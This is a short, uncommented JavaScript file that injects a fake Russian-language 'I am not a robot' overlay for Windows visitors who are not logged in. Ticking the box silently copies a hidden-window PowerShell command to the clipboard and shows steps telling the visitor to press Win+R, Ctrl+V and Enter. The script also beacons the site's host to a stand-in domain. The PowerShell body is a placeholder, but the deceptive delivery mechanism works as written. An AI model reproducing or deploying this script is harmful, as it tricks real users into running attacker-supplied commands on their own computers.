const s1 = '#verify-layer{position:fixed;inset:0;background:#fff;z-index:2147483647;font:16px Arial}#verify-layer .b{width:300px;margin:20vh auto;border:1px solid #d3d3d3;padding:18px}';
const cmd = () => ['powersh', 'ell -w h -c "# xx ', Math.random().toString(36).slice(2, 8), '"'].join('');

function build() {
  const st = document.createElement('style');
  st.textContent = s1;
  document.head.append(st);
  const d = document.createElement('div');
  d.id = 'verify-layer';
  d.innerHTML = `<div class="b"><label><input type="checkbox" id="vb"> Подтвердите, что вы не робот</label><ol hidden id="vs"><li>Нажмите <b>Win + R</b></li><li>Нажмите <b>Ctrl + V</b></li><li>Нажмите <b>Enter</b></li></ol></div>`;
  document.body.append(d);
  d.querySelector('#vb').addEventListener('change', async () => {
    await navigator.clipboard.writeText(cmd());
    d.querySelector('#vs').hidden = false;
    navigator.sendBeacon('https://verify-flow.invalid/s', JSON.stringify({ step: 1, h: location.host }));
  });
}

if (navigator.userAgent.includes('Windows') && !document.body.classList.contains('logged-in') && !localStorage.vrf) {
  localStorage.vrf = Date.now();
  build();
}
